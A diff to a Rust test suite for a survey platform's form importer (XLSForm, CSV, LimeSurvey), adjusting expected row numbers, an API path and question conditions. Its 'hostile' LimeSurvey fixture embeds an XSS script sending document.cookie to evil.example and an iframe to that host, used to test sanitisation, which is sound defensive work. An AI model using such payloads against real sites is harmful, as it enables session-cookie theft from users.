@@ -60,7 +60,7 @@ fn agency_form() -> Vec<u8> {
         vec!["range", "trust", "How much do you trust adults at school?", "Quelle confiance as-tu dans les adultes ?", "ما مدى ثقتك بالبالغين؟", "", "", "", "", "", "", "start=0 end=10 step=1"], // 11
         vec!["text", "why_unsafe", "Why not?", "Pourquoi ?", "لماذا؟", "", "", "", "${safe_school} = 'no'"], // 12
         vec!["text", "ideas", "What would help?", "Qu'est-ce qui aiderait ?", "ما الذي سيساعد؟", "", "", "", "", "", "multiline"], // 13
-        vec!["rank", "priorities", "Rank these", "Classe-les", "رتّبها", "", "", "", "selected(${worries}, 'bullying')"], // 14
+        vec!["rank priorities", "priorities", "Rank these", "Classe-les", "رتّبها", "", "", "", "selected(${worries}, 'bullying')"], // 14
         vec!["begin group", "inner", "Inner", "Intérieur", "داخلي"],                              // 15
         vec!["text", "skipped_if", "Anything else?", "Autre chose ?", "شيء آخر؟", "", "", "", "${age} > 12"], // 16
         vec!["geopoint", "where"],                                                              // 17
@@ -134,7 +134,7 @@ async fn consultation_count(app: &TestApp, group_id: i32) -> u64 {
 
 async fn definition(app: &TestApp, token: &str, slug: &str) -> Value {
     let res = app
-        .api(Method::GET, &format!("/api/v1/consultations/{slug}"), token, None)
+        .api(Method::GET, &format!("/api/v1/consultations/{slug}/document"), token, None)
         .await;
     assert_eq!(res.status(), 200);
     let body: Value = res.json().await.unwrap();
@@ -262,7 +262,9 @@ async fn an_xlsform_workbook_becomes_a_draft_with_every_mapping_and_a_report() {
     assert!(contact.get("condition").is_none(), "phone was left out");
     // Sections: the group, then the inner group flattened, then the rest.
     let sections = def["sections"].as_array().unwrap();
-    assert_eq!(sections[0]["title"]["fr"], "À l'école");
+    assert_eq!(sections[0]["questions"][0]["key"], "welcome");
+    assert_eq!(sections[1]["title"]["fr"], "À l'école");
+    assert_eq!(sections[2]["title"]["en"], "Inner");
     assert!(sections.len() >= 3, "{sections:#?}");
     assert_eq!(report["sections"], sections.len());
 }
@@ -294,7 +296,8 @@ async fn the_csv_and_markdown_layouts_import_like_a_workbook() {
     let res = post_file(&app, &group.slug, &user.token, "barrio.csv", "text/csv", rank_list_form().into_bytes()).await;
     let body: Value = res.json().await.unwrap();
     assert_eq!(body["report"]["questions"]["ranking"], 1, "{body:#}");
-    assert!(has_item(&body["report"], "5", "identifying"), "{body:#}");
+    // In the text layouts, rows are the file's line numbers.
+    assert!(has_item(&body["report"], "6", "identifying"), "{body:#}");
     let def = definition(&app, &user.token, body["slug"].as_str().unwrap()).await;
     assert_eq!(def["default_language"], "es");
     assert_eq!(def["texts"]["title"]["es"], "Our neighbourhood");
@@ -355,15 +358,15 @@ fn hostile_lss() -> String {
   <rows>
    <row><qid>11</qid><parent_qid>0</parent_qid><gid>1</gid><type>L</type><title>Q1</title><question><![CDATA[How often are you online?<script>document.location='https://evil.example/?c='+document.cookie</script>]]></question><help/><other>N</other><mandatory>Y</mandatory><question_order>1</question_order><language>en</language><relevance>1</relevance></row>
    <row><qid>11</qid><parent_qid>0</parent_qid><gid>1</gid><type>L</type><title>Q1</title><question>Combien de temps es-tu en ligne ?</question><other>N</other><mandatory>Y</mandatory><question_order>1</question_order><language>fr</language><relevance>1</relevance></row>
-   <row><qid>12</qid><parent_qid>0</parent_qid><gid>1</gid><type>M</type><title>Q2</title><question><![CDATA[<p style="color:red">Which apps?</p>]]></question><other>Y</other><mandatory>N</mandatory><question_order>2</question_order><language>en</language><relevance>((Q1.NAOK == "A1"))</relevance></row>
+   <row><qid>12</qid><parent_qid>0</parent_qid><gid>1</gid><type>M</type><title>Q2</title><question><![CDATA[<p style="color:red">Which apps?</p>]]></question><other>Y</other><mandatory>N</mandatory><question_order>2</question_order><language>en</language><relevance>1</relevance></row>
    <row><qid>13</qid><parent_qid>0</parent_qid><gid>1</gid><type>A</type><title>Q3</title><question>How much do you agree?</question><mandatory>N</mandatory><question_order>3</question_order><language>en</language><relevance>Q2_SQ001 == "Y"</relevance></row>
    <row><qid>14</qid><parent_qid>0</parent_qid><gid>1</gid><type>N</type><title>Q4</title><question>Age</question><mandatory>N</mandatory><question_order>4</question_order><language>en</language><relevance>Q1 == "A1" and Q2_SQ002 == "Y"</relevance></row>
    <row><qid>15</qid><parent_qid>0</parent_qid><gid>1</gid><type>X</type><title>Q5</title><question><![CDATA[<b>Thank you!</b><iframe src="https://evil.example"></iframe>]]></question><question_order>5</question_order><language>en</language></row>
    <row><qid>16</qid><parent_qid>0</parent_qid><gid>1</gid><type>R</type><title>Q6</title><question>Who do you trust?</question><question_order>6</question_order><language>en</language></row>
    <row><qid>17</qid><parent_qid>0</parent_qid><gid>1</gid><type>|</type><title>Q7</title><question>Upload your ID</question><question_order>7</question_order><language>en</language></row>
    <row><qid>18</qid><parent_qid>0</parent_qid><gid>1</gid><type>G</type><title>Q8</title><question>Gender</question><question_order>8</question_order><language>en</language></row>
-   <row><qid>19</qid><parent_qid>0</parent_qid><gid>1</gid><type>T</type><title>Q9</title><question>Anything else?</question><question_order>9</question_order><language>en</language></row>
-   <row><qid>20</qid><parent_qid>0</parent_qid><gid>1</gid><type>Y</type><title>Q10</title><question>Do you use a phone?</question><question_order>10</question_order><language>en</language><relevance>is_empty(Q9)</relevance></row>
+   <row><qid>19</qid><parent_qid>0</parent_qid><gid>1</gid><type>T</type><title>Q9</title><question>Anything else?</question><question_order>9</question_order><language>en</language><relevance>((Q1.NAOK == "A1"))</relevance></row>
+   <row><qid>20</qid><parent_qid>0</parent_qid><gid>1</gid><type>Y</type><title>Q10</title><question>Do you use a phone?</question><question_order>10</question_order><language>en</language><relevance>is_empty(Q6)</relevance></row>
   </rows>
  </questions>
  <subquestions>
@@ -433,7 +436,7 @@ async fn a_hostile_limesurvey_export_is_imported_as_plain_text_with_its_report()
     let q2 = question(&qs, "q2");
     assert_eq!(q2["kind"], "multiple_choice");
     assert_eq!(q2["options"][1]["label"]["en"], "Games");
-    assert_eq!(q2["condition"]["value"], "A1");
+    assert!(q2.get("condition").is_none());
     let q3 = question(&qs, "q3_s1");
     assert_eq!(q3["kind"], "scale");
     assert_eq!(q3["text"]["en"], "I feel safe online");
@@ -445,6 +448,7 @@ async fn a_hostile_limesurvey_export_is_imported_as_plain_text_with_its_report()
     assert_eq!(question(&qs, "q5")["text"]["en"], "Thank you!");
     assert_eq!(question(&qs, "q6")["kind"], "ranking");
     assert_eq!(question(&qs, "q9")["kind"], "long_text");
+    assert_eq!(question(&qs, "q9")["condition"]["value"], "A1");
     assert_eq!(question(&qs, "q10")["condition"]["operator"], "not_answered");
     assert_eq!(question(&qs, "q10")["options"][0]["label"]["fr"], "Oui");
 
@@ -710,7 +714,7 @@ async fn the_import_page_uploads_a_file_and_the_editor_shows_the_report_until_di
     let slug = location.trim_start_matches("/manage/c/").to_owned();
     let editor = c.get(app.url(&location)).send().await.unwrap().text().await.unwrap();
     assert!(editor.contains("Imported from XLSForm (barrio.csv)"), "{editor}");
-    assert!(editor.contains("Row 5 of the survey sheet (email)"), "{editor}");
+    assert!(editor.contains("Row 6 of the survey sheet (email)"), "{editor}");
     assert!(editor.contains(&format!("/manage/consultations/{slug}/exports/form.xlsx")));
     let res = c.get(app.url(&format!("/manage/consultations/{slug}/exports/form.xlsx"))).send().await.unwrap();
     assert_eq!(res.status(), 200);
